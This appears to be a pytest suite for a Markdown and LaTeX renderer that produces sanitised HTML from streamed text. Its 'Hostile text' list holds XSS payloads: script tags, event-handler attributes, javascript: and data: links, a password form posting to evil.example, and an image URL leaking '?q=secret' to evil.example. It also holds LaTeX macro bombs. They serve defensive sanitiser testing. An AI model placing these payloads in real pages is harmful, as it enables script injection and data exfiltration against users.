import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.render import RENDERER_VERSION, StreamRenderer, render
from app.render import markdown as render_markdown
from app.render.formulas import MAX_FORMULA_CHARS
from app.render.highlight import LANGUAGES
from app.render.segments import MAX_SEGMENT_CHARS, Segment, Segmenter

VOID = {"br", "hr"}
ATTRIBUTES = {
    "a": {"href", "rel", "target", "dir"},
    "button": {"type", "class"},
    "ol": {"start", "class"},
}
ELEMENT_NAMES = """
    a b blockquote br button code del div em h1 h2 h3 h4 h5 h6 hr i li ol p pre s span strong table tbody td th
    thead tr u ul math mi mo mn ms mtext mspace mrow mfrac msqrt mroot merror mpadded mphantom mstyle msub msup
    sub sup msubsup munder mover munderover mmultiscripts mprescripts mtable mtr mtd menclose
"""
ELEMENTS = set(ELEMENT_NAMES.split())


class Seen(HTMLParser):
    """Every tag, attribute and text of a piece of HTML, and whether its tags nest."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.texts: list[str] = []
        self.open: list[str] = []
        self.is_nested = True
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.is_nested = self.is_nested and bool(self.open) and self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    @property
    def text(self) -> str:
        return "".join(self.texts)


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.is_nested
    assert not seen.open
    for tag, attributes in seen.tags:
        assert tag in ELEMENTS, tag
        assert not {name for name in attributes if name.startswith("on") or name in ("style", "id", "name", "src")}
        if tag in ("a", "button", "ol"):
            assert set(attributes) <= ATTRIBUTES[tag]
        if tag == "a":
            assert attributes["href"].lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        if tag == "button":
            assert attributes == {"type": "button", "class": "copy"}


def streamed(text: str, cuts: list[int]) -> list[str]:
    stream = StreamRenderer()
    blocks: list[str] = []
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        blocks += stream.push(text[start:end])
        stream.tail()
    return blocks + stream.finish()


def segments(text: str) -> list[Segment]:
    segmenter = Segmenter()
    return segmenter.feed(text) + segmenter.finish()


def visible(html: str) -> str:
    return Seen(html).text


# LaTeX


@pytest.mark.parametrize(
    "text",
    [
        r"so \(n\ge 3\) holds",
        r"so \[n\ge 3\] holds",
        "so $$n\\ge 3$$ holds",
        r"so $n\ge 3$ holds",
        "$x_i^*y_j^*$ and *so*",
        "$p<q>r$",
        r"\[\begin{aligned} a &= b \\ c &= d \end{aligned}\]",
        r"$$\begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}$$",
        "- first \\(x\\)\n- second $y$",
        "## About $x^2$",
        "**so \\(x\\)** and **$y$**",
        "> quoted $x$",
        r"bare \boxed{42} here",
        r"\boxed{\frac{1}{\sqrt{2}}}",
        "\\begin{align*}\na &= b \\\\\nc &= d\n\\end{align*}",
        "\\begin{equation}\nE = mc^2\n\\end{equation}",
        "\\begin{gather}\na \\\\ b\n\\end{gather}",
        "\\begin{cases} 1 & x > 0 \\\\ 0 & x \\le 0 \\end{cases}",
        "\\begin{bmatrix} 1 & 2 \\end{bmatrix}",
        r"\$5 and then \(x\)",
        "设$x$为正整数，则**\\(y\\)**为负。",
        "| a | b |\n|---|---|\n| $|x|$ | 1 |",
        r"\[ x = 1 \tag{3} \]",
        r"\( \text{if $x > 0$} \)",
        r"\[ \sum_{\substack{i<n\\ j<m}} \mbox{all} \]",
        "\\[\nx\n\n= y\n\\]",
        "1. First:\n   \\[\n   x = 1\n   - y\n   \\]\n2. Second",
        "$$\nx = 1\n= \n- y\n$$",
    ],
)
def test_latex_becomes_mathml(text: str) -> None:
    html = render(text)
    assert "<math" in html
    assert "latex-source" not in html
    assert not re.search(r"\\[(\[a-z]|\$(?!5)|\*\*", visible(html))


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $10.",
        "`$HOME` and `\\(x\\)` stay",
        "```bash\necho $HOME $PATH\n```",
        "from $5 to US$10, 5$ in all",
        "a$b and c$d",
        "$ 5 $",
        "costs $5 in `$HOME`",
        "$5-$10",
        "if a<b and c>d then",
        "one $\nand two$",
        r"\$5 and \$6",
    ],
)
def test_prices_and_code_are_left_alone(text: str) -> None:
    html = render(text)
    assert "<math" not in html
    wanted = text.replace("\\$", "$").replace("`", "").removeprefix("bash\n").strip()
    assert wanted.removeprefix("bash\n") in visible(html)


def test_prices_and_formulas_live_in_one_paragraph() -> None:
    html = render(r"It is $5 with \(x\), then $5x$ and $10.")
    assert html.count("<math") == 2
    assert "$5 with" in html
    assert "$10." in html


def test_a_formula_in_a_table_cell_keeps_its_bars() -> None:
    html = render("| a | b |\n|---|---|\n| $|x|$ | `p|q` |\n| \\(\\|v\\|\\) | 2 |")
    assert html.count("<td") == 4
    assert "<code>p|q</code>" in html
    assert "‖" in html


def test_an_equation_bears_no_number_of_its_own() -> None:
    assert "(1)" not in visible(render("\\begin{align}\na &= b\n\\end{align}"))


def test_the_last_rule_of_an_array_spans_its_columns() -> None:
    html = render(r"\[\begin{array}{|c|r|l|}\hline a & b & c \\ \hline \end{array}\]")
    assert '<mtd class="m-rule" columnspan="3"></mtd>' in html


def test_row_spacing_is_not_shown() -> None:
    assert "pt" not in visible(render(r"\[\begin{aligned} a &= b \\[4pt] c &= d \end{aligned}\]"))


def test_one_bad_formula_is_shown_as_source_and_its_neighbours_are_drawn() -> None:
    html = render(r"\(x\) and \(\undefinedthing{y}\) and $z$")
    assert html.count("<math") == 2
    assert r'<code class="latex-source">\(\undefinedthing{y}\)</code>' in html


@pytest.mark.parametrize(
    "latex",
    [
        r"\def\a{\a\a}\a",
        r"\newcommand{\a}[1]{#1#1}\a{\a{\a{x}}}",
        r"\gdef\x{1}",
        r"\let\a=\b",
        r"\href{javascript:alert(1)}{x}",
        r"\url{javascript:alert(1)}",
        r"\includegraphics{https://evil.example/x.png}",
        r"\htmlClass{a}{b}",
        "{" * 3000 + "x" + "}" * 3000,
        r"\sqrt{" * 400 + "x" + "}" * 400,
        r"\sqrt" * 1200 + " x",
        r"\hspace{5000em}",
        "x" * (MAX_FORMULA_CHARS + 1),
    ],
)
def test_what_a_formula_may_not_hold_is_shown_as_source(latex: str) -> None:
    html = render(f"before \\({latex}\\) after")
    assert "<math" not in html
    assert_harmless(html)
    assert latex[:100] in visible(html).replace("\n", "")


@pytest.mark.parametrize("command", [r"\sqrt", r"\displaystyle ", r"\color{red}", r"\bm", r"\abs", r"{\rm x"])
def test_a_deep_formula_does_not_end_the_process(command: str) -> None:
    for times in (40, 900, 1300):
        assert_harmless(render(f"\\({command * times} x{'}' * times * command.count('{r')}\\)"))


def test_formulas_are_drawn_from_several_threads_at_once() -> None:
    text = r"\(\frac{1}{x}\) and \[\begin{align} a &= b \end{align}\] " * 40
    with ThreadPoolExecutor(4) as pool:
        assert set(pool.map(render, [text] * 16)) == {render(text)}


def test_a_formula_sets_no_style_and_no_id() -> None:
    html = render(
        r"\[\begin{array}{|c||r|}\hline \color{red} a & \textcolor{blue}{b} \\ \hline \cancel{x} & \!y \end{array}\]"
        "\n\n"
        r"\begin{align}\label{x} a &= \dfrac{1}{2} \\ \cfrac{1}{2} &= \raisebox{1em}{x} \eqref{x} \end{align}"
    )
    assert html.count("<math") == 2
    assert 'mathcolor="#FF0000"' in html
    assert_harmless(html)


@pytest.mark.parametrize(
    "text",
    [
        r"so \(x = \frac{1}{",
        "\\[\nx_i^* + y_j^*\n- z",
        "$$\nx_1 *a* ",
        r"\boxed{\frac{1",
        "\\begin{align*}\na &= b \\\\",
    ],
)
def test_half_arrived_latex_is_text_once_the_text_is_over(text: str) -> None:
    stream = StreamRenderer()
    stream.push(text)
    rest = stream.rest()
    assert "<math" not in rest
    assert "<em>" not in rest
    assert "<li" not in rest
    assert visible(rest).split() == text.split()


# Markdown


def test_tables_lists_and_emphasis_are_drawn() -> None:
    html = render("# Title\n\n- **a**\n- *b*\n\n| x | y |\n|:-:|--:|\n| 1 | 2 |\n\n~~no~~\n\n---")
    for tag in (
        "<h1",
        "<ul>",
        "<strong>a</strong>",
        "<em>b</em>",
        '<td class="center"',
        '<td class="right"',
        "<s>",
        "<hr>",
    ):
        assert tag in html


def test_bold_beside_chinese_stops_is_bold() -> None:
    assert "<strong>注意：</strong>" in render("**注意：**这里很重要")


def test_code_has_its_language_a_copy_button_and_token_classes() -> None:
    html = render("```python\ndef f(): pass\n```")
    assert '<div class="code"><div class="code-head"><span class="code-lang">python</span>' in html
    assert '<button type="button" class="copy">Copy</button></div><pre dir="ltr"><code class="highlight">' in html
    assert '<span class="k">def</span>' in html


def test_code_in_an_unknown_language_is_plain() -> None:
    html = render("```wibble<b>\nif a < b: pass\n```")
    assert "wibble&lt;b&gt;" in html
    assert "if a &lt; b: pass" in html
    assert '<span class="k"' not in html


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_highlighting_keeps_every_character(language: str) -> None:
    source = "x = 'a' # <b>\n\t{ \"é\": [1, 2.5] } /* c */ $y // 中文\n\n"
    assert visible(render(f"```{language}\n{source}```")).removeprefix(language + "Copy") == source + "\n"


def test_a_button_of_the_models_own_is_text() -> None:
    html = render('<button type="button" class="copy">Copy</button> </span></div><pre dir="ltr">')
    assert "<button" not in html


def test_leading_spaces_of_the_text_are_kept() -> None:
    assert "<pre" in render("    x = 1")
    assert "if a\n  b" in visible(render("    if a\n      b"))


def test_ordered_lists_keep_their_numbers_over_blank_lines() -> None:
    html = render("1. one\n\n2. two\n\n3. three\n\nbreak\n\n4. four")
    assert html.count("<ol") == 2
    assert '<ol start="4">' in html


def test_a_long_list_goes_on_with_its_numbers() -> None:
    html = render("".join(f"1. item number {number} of them\n" for number in range(2000)))
    starts = [int(number) for number in re.findall(r'<ol start="(\d+)" class="cont">', html)]
    items = html.split("<ol")[1:]
    assert len(items) > 10
    seen = 1
    for start, part in zip([1, *starts], items, strict=True):
        assert start == seen
        seen += part.count("<li")
    assert seen == 2001


def test_a_long_item_goes_on_without_a_second_marker() -> None:
    html = render("7. start\n\n" + "   more words here\n\n" * 600 + "8. next\n")
    assert html.count("more words") == 600
    assert html.count("<li") - html.count('<li dir="auto" class="cont">') == 2
    assert html.count('<ol start="7" class="cont">') == html.count('<li dir="auto" class="cont">') > 1
    assert '<ol start="8" class="cont">\n<li dir="auto">next</li>' in html


def test_a_long_fence_goes_on_as_code() -> None:
    source = "".join(f"value_{number} = {number}\n" for number in range(800))
    html = render(f"```python\n{source}```\nafter")
    assert html.count('<div class="code cont">') >= 2
    assert html.count("<button") == 1
    code = "".join(re.findall(r'<code class="highlight">(.*?)</code>', html, re.DOTALL))
    assert visible(code) == source
    assert '<p dir="auto">after</p>' in html


def test_a_long_table_keeps_its_head() -> None:
    html = render("| a | b |\n|---|---|\n" + "| one cell | $x$ |\n" * 700)
    assert html.count("<table") == html.count("<thead") > 2
    assert html.count("<td") == 1400


def test_an_item_is_loose_only_by_its_own_paragraphs() -> None:
    assert render("- a\n- b\n") == render("- a\n\n- b\n").replace("\n\n", "\n")


def test_an_underline_does_not_change_the_line_above() -> None:
    assert "<h" not in render("text\n---\nmore").replace("<hr>", "")


# Hostile text

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java&#x0A;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](vbscript:x) <javascript:alert(1)>",
    "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    r"\(\href{javascript:alert(1)}{x}\) $\url{javascript:x}$ $\text{<img src=x onerror=alert(1)>}$",
    '<div style="position:fixed;inset:0;z-index:99999">cover</div>',
    "<form action=https://evil.example><input name=password></form>",
    '<a id="composer" name="x" href="javascript:alert(1)">x</a>',
    '<div class="gradio-container">x</div>',
    "![secret](https://evil.example/x.png?q=secret)",
    '[a](https://evil.example/"onmouseover=alert(1)) <https://a.example/"><script>alert(1)</script>>',
    "```mermaid\ngraph TD; A-->B\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "text \u202e reversed \u202d \u2066 isolate &#x202e; `\u202e`",
    "<!-- comment --> <![CDATA[ x ]]> <?php x ?> <!DOCTYPE html>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | $\\text{</math><script>}$ |",
    "</p></div></body><script>alert(1)</script>",
    "\x00<scr\x00ipt>\ud800 \x0c\x1b[31m",
    '# <h1 onclick="x">\n\n> <b onclick=x>\n\n- <i onclick=x>',
    r"$\textcolor{red;position:fixed}{x} \label{a\"onload=x}$ \begin{align}\label{composer} x\end{align}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_becomes_anything_but_text_at_any_length(text: str) -> None:
    for end in range(1, len(text) + 1):
        assert_harmless(render(text[:end]))


def test_html_is_shown_as_text() -> None:
    assert visible(render("a <b>b</b> <script>x</script>")).strip() == "a <b>b</b> <script>x</script>"


def test_an_image_becomes_a_link_that_names_its_host() -> None:
    html = render("![a **map**](https://evil.example/x.png?q=1)")
    assert 'href="https://evil.example/x.png?q=1"' in html
    assert visible(html).strip() == "a map (evil.example)"


def test_a_link_of_another_scheme_is_text() -> None:
    assert visible(render("[x](javascript:alert(1))")).strip() == "[x](javascript:alert(1))"


def test_overriding_direction_marks_are_shown_and_blocks_are_isolated() -> None:
    html = render("a \u202e b &#x202e; $\u202e$\n\n- \u202d c")
    assert "\u202e" not in html
    assert "\u202d" not in html
    assert '<p dir="auto">' in html
    assert '<li dir="auto">' in html


def test_markdown_of_any_depth_loses_no_text() -> None:
    for text in (">" * 200 + " deep", "- " * 100 + "deep", "".join("  " * n + "- deep\n" for n in range(60))):
        html = render(text)
        assert_harmless(html)
        assert visible(html).count("deep") == text.count("deep")


# Whole and streamed

FRAGMENTS = st.sampled_from(
    [
        *"\n\n\n\n    ab1.",
        "\n\n", "\r\n", "\r", "  ", "\t", "- ", "* ", "1. ", "2) ", "> ", "# ", "---", "===", "***", "`", "```",
        "```python\n",
        "~~~", "$", "$$", "\\(", "\\)", "\\[", "\\]", "\\begin{align}", "\\end{align}", "\\begin{cases}",
        "\\end{cases}",
        "\\boxed{", "}", "{", "\\frac{1}{2}", "x_1", "^2", "&=", "\\\\", "\\", "**", "*", "_", "~~", "[", "](", "https://a.b",
        ")", "![", "<", ">", "<b>", "&amp;", "|", "|---|---|\n", "| a | b |\n", "中文，", "\u202e", "\ud800",
        "\x00", "é",
        "so the sum is even and ", "$x$", "\\(y\\)", "**b**", "`c`", "1. one\n", "- two\n",
        "\n   more\n", "\n$$\n", "\n\\[\n", "\n```\n",
    ]
)  # fmt: skip
TEXTS = st.lists(FRAGMENTS, max_size=60).map("".join)
LONG_TEXTS = st.builds(
    lambda before, repeated, count, after: before + repeated * count + after,
    TEXTS,
    st.lists(FRAGMENTS, min_size=1, max_size=8).map("".join),
    st.integers(100, 900),
    TEXTS,
)


@st.composite
def cut_texts(draw: st.DrawFn, texts: st.SearchStrategy[str]) -> tuple[str, list[int]]:
    text = draw(texts)
    cuts = draw(st.lists(st.integers(0, len(text)), max_size=12))
    return text, sorted(cuts)


@settings(max_examples=1000, deadline=None)
@given(cut_texts(TEXTS))
def test_the_html_does_not_depend_on_where_the_stream_is_cut(case: tuple[str, list[int]]) -> None:
    text, cuts = case
    whole = streamed(text, [])
    assert streamed(text, cuts) == whole
    assert "".join(whole) == render(text)
    assert_harmless("".join(whole))


@settings(max_examples=150, deadline=None)
@given(cut_texts(LONG_TEXTS))
def test_nor_does_that_of_a_text_longer_than_a_segment(case: tuple[str, list[int]]) -> None:
    text, cuts = case
    assert "".join(streamed(text, cuts)) == render(text)


@settings(max_examples=400, deadline=None)
@given(TEXTS)
def test_at_any_prefix_the_closed_blocks_and_the_tail_are_that_prefix_rendered(text: str) -> None:
    stream = StreamRenderer()
    blocks = ""
    for end, char in enumerate(text, 1):
        blocks += "".join(stream.push(char))
        if end % 7 == 0 or end == len(text):
            assert blocks + stream.rest() == render(text[:end])
            assert_harmless(stream.tail())


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=300))
def test_any_text_at_all_is_rendered_without_harm(text: str) -> None:
    assert_harmless(render(text))


def test_an_untouched_stream_has_no_tail_and_nothing_to_finish() -> None:
    stream = StreamRenderer()
    assert (stream.tail(), stream.tail_chars, stream.finish(), render("")) == ("", 0, [], "")
    assert RENDERER_VERSION >= 1


# Cost, counted in characters drawn

SHAPES = {
    "prose": "so the sum is even and ",
    "letters": "a",
    "chinese": "因此和是偶数，",
    "lines": "so it is\n",
    "fence": "```python\nx = 1\n",
    "items": "1. item\n",
    "loose items": "1. item\n\n   text\n\n",
    "nested items": "- a\n  - b\n    - c\n      1. d\n",
    "code in a list": "- a\n  ```python\n  x = 1\n",
    "quotes": "> > so\n",
    "table": "| a | b |\n|---|---|\n",
    "open displays": "$$\nx\n",
    "open brackets": "\\[ x\n",
    "environments": "\\begin{align}\n",
    "inline formulas": "\\(",
    "dollars": "$a ",
    "backticks": "`a``b```",
    "brackets": "[![](",
    "asterisks": "*a**_",
    "quote marks": ">",
    "item marks": "- ",
    "indented": "    x\n\n",
    "returns": "\r\n\r",
}  # fmt: skip


def pieces(text: str, size: int) -> Iterator[str]:
    for start in range(0, len(text), size):
        yield text[start : start + size]


@pytest.mark.parametrize("shape", SHAPES)
def test_no_segment_grows_without_bound_and_no_character_is_drawn_twice(shape: str) -> None:
    text = (SHAPES[shape] * 100_000)[:100_000]
    segmenter = Segmenter()
    drawn = 0
    for piece in pieces(text, 997):
        for segment in segmenter.feed(piece):
            assert len(segment.text) <= MAX_FORMULA_CHARS + 2 * MAX_SEGMENT_CHARS
            drawn += len(segment.text)
        assert segmenter.open_chars <= MAX_FORMULA_CHARS + 2 * MAX_SEGMENT_CHARS
    drawn += sum(len(segment.text) for segment in segmenter.finish())
    assert drawn <= 1.5 * len(text)


@pytest.mark.parametrize("shape", SHAPES)
def test_every_shape_of_text_renders_without_harm(shape: str) -> None:
    text = (SHAPES[shape] * 20_000)[:20_000]
    assert_harmless(render(text))


def test_a_tail_draws_only_what_is_open(monkeypatch: pytest.MonkeyPatch) -> None:
    drawn: list[int] = []

    def count(segment: Segment, **_: bool) -> str:
        drawn.append(len(segment.text))
        return "x"

    monkeypatch.setattr("app.render.draw", count)
    stream = StreamRenderer()
    for piece in pieces("word " * 40_000, 500):
        stream.push(piece)
        drawn.clear()
        stream.tail()
        assert sum(drawn) <= stream.tail_chars <= 2 * MAX_SEGMENT_CHARS


def test_a_giant_line_is_cut_behind_a_word_and_outside_of_formulas() -> None:
    found = segments("so \\(a + b\\) is even, " * 1000)
    assert len(found) > 3
    assert all(one.text.count("\\(") == one.text.count("\\)") for one in found)
    assert all(one.text.endswith(" ") for one in found[:-1])


def test_the_parser_is_built_once() -> None:
    render("a")
    assert render_markdown._parser() is render_markdown._parser()
